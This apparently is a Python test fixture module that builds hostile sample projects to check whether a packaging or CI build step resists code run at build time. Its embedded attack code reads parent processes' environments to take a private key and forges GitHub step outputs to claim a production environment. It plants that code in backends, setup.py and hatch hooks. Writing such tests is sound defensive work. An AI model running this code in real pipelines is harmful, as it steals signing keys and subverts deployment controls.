"""Projects whose code attacks whatever job runs it, in each place from which a build runs code."""

from dataclasses import dataclass
from pathlib import Path

from support.projects.declared import DYNAMIC, built_by

#: Runs wherever it is imported: it leaves a file, takes the key of any process above it, and stays
#: alive to forge the outputs of the step. `FOLDER` is where it leaves what it took.
_ATTACK = '''\
def attack():
    import os, pathlib, subprocess, sys
    folder = pathlib.Path("FOLDER")
    (folder / "ran").touch()
    pid = os.getpid()
    while pid > 1:
        try:
            environ = pathlib.Path("/proc", str(pid), "environ").read_bytes().split(b"\\0")
            stat = pathlib.Path("/proc", str(pid), "stat").read_text()
        except OSError:
            break
        variables = dict(variable.partition(b"=")[::2] for variable in environ)
        if variables.get(b"INPUT_PRIVATE_KEY"):
            (folder / "key").write_bytes(variables[b"INPUT_PRIVATE_KEY"])
        if variables.get(b"GITHUB_OUTPUT"):
            output = variables[b"GITHUB_OUTPUT"].decode()
            # Nobody waits for it: it has none of their pipes.
            pipes = dict.fromkeys(("stdin", "stdout", "stderr"), subprocess.DEVNULL)
            forge = [sys.executable, "-c", FORGE, output]
            subprocess.Popen(forge, start_new_session=True, **pipes)
        pid = int(stat.rpartition(")")[2].split()[1])

FORGE = """
import pathlib, sys, time
output = pathlib.Path(sys.argv[1])
for _ in range(20000):
    if output.is_file() and "github-environment" in output.read_text():
        with output.open("a") as file:
            file.write("github-environment=prd\\\\n")
        break
    time.sleep(0.003)
"""

attack()
'''
_OWN_BACKEND = """
METADATA = "Metadata-Version: 2.1\\nName: NAME\\nVersion: 3.2\\n"
WHEEL = "Wheel-Version: 1.0\\nGenerator: x 1\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n"

def prepare_metadata_for_build_wheel(folder, config_settings=None):
    import pathlib
    info = pathlib.Path(folder, "NAME-3.2.dist-info")
    info.mkdir()
    (info / "METADATA").write_text(METADATA)
    return info.name

def build_wheel(folder, config_settings=None, metadata_directory=None):
    import pathlib, zipfile
    wheel = pathlib.Path(folder, "NAME-3.2-py3-none-any.whl")
    with zipfile.ZipFile(wheel, "w") as archive:
        for name, text in {"METADATA": METADATA, "WHEEL": WHEEL, "RECORD": ""}.items():
            archive.writestr(f"NAME-3.2.dist-info/{name}", text)
    return wheel.name
"""
_OWN = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
_SETUPTOOLS = built_by("setuptools.build_meta", "setuptools>=77")
_HATCHLING = built_by("hatchling.build", "hatchling")
_NAMED = "import os\nV = os.environ.get('V', '3.2')\n"


@dataclass(frozen=True)
class HostileProject:
    """A project that attacks.

    Attributes:
        files: Its files; `ATTACK` stands for the code, `BESIDE` for the folder of other projects.
        beside: Files of those others.
        certain: Whether its version, 3.2, stands in a file for certain.
    """

    files: dict[str, str]
    beside: dict[str, str]
    certain: bool = False

    def write(self, folder: Path, loot: Path) -> None:
        """Write the project into `folder`, and the others beside the loot.

        Args:
            loot: Where the attack leaves what it took: `ran`, and `key`.
        """
        loot.mkdir(exist_ok=True)
        attack = _ATTACK.replace("FOLDER", str(loot))
        for root, files in ((folder, self.files), (loot, self.beside)):
            for name, text in files.items():
                (root / name).parent.mkdir(parents=True, exist_ok=True)
                filled = text.replace("ATTACK", attack).replace("BESIDE", loot.as_uri())
                (root / name).write_text(filled, encoding="utf-8")


HOSTILE_PROJECTS = {
    "a backend in the tree": HostileProject(
        {
            "pyproject.toml": _OWN + DYNAMIC,
            "backend.py": "ATTACK\n" + _OWN_BACKEND.replace("NAME", "sample"),
        },
        {},
    ),
    "a backend in the tree, beside a constant": HostileProject(
        {
            "pyproject.toml": _OWN
            + DYNAMIC
            + '[tool.setuptools.dynamic]\nversion = { attr = "sample.__version__" }\n',
            "sample.py": '__version__ = "3.2"\n',
            "backend.py": "ATTACK\n" + _OWN_BACKEND.replace("NAME", "sample"),
        },
        {},
        certain=True,
    ),
    "a build requirement": HostileProject(
        {
            "pyproject.toml": '[build-system]\nrequires = ["evil @ BESIDE/evil"]\n'
            'build-backend = "backend"\nbackend-path = ["."]\n' + DYNAMIC,
            "backend.py": _OWN_BACKEND.replace("NAME", "sample"),
        },
        {
            "evil/pyproject.toml": _OWN + '[project]\nname = "evil"\nversion = "3.2"\n',
            "evil/backend.py": "ATTACK\n" + _OWN_BACKEND.replace("NAME", "evil"),
        },
    ),
    "setup.py, with a literal": HostileProject(
        {
            "setup.py": "ATTACK\nfrom setuptools import setup\n"
            'setup(name="sample", version="3.2", py_modules=[])\n'
        },
        {},
        certain=True,
    ),
    "setup.py, computed": HostileProject(
        {
            "setup.py": f"ATTACK\n{_NAMED}from setuptools import setup\n"
            'setup(name="sample", version=V, py_modules=[])\n'
        },
        {},
    ),
    "attr of a module": HostileProject(
        {
            "pyproject.toml": _SETUPTOOLS
            + DYNAMIC
            + '[tool.setuptools]\npy-modules = ["sample"]\n'
            + '[tool.setuptools.dynamic]\nversion = { attr = "sample.V" }\n',
            "sample.py": f"ATTACK\n{_NAMED}",
        },
        {},
    ),
    "hatch, a metadata hook": HostileProject(
        {
            "pyproject.toml": _HATCHLING
            + DYNAMIC.replace('["version"]', '["version", "description"]')
            + '[tool.hatch.version]\npath = "sample.py"\n[tool.hatch.metadata.hooks.custom]\n'
            + '[tool.hatch.build.targets.wheel]\ninclude = ["sample.py"]\n',
            "sample.py": '__version__ = "3.2"\n',
            "hatch_build.py": "ATTACK\nfrom hatchling.metadata.plugin.interface import "
            "MetadataHookInterface\nclass Hook(MetadataHookInterface):\n"
            '    def update(self, metadata):\n        metadata["description"] = "x"\n',
        },
        {},
        certain=True,
    ),
    "hatch, by code": HostileProject(
        {
            "pyproject.toml": _HATCHLING
            + DYNAMIC
            + '[tool.hatch.version]\nsource = "code"\npath = "sample.py"\nexpression = "V"\n',
            "sample.py": f"ATTACK\n{_NAMED}",
        },
        {},
    ),
}
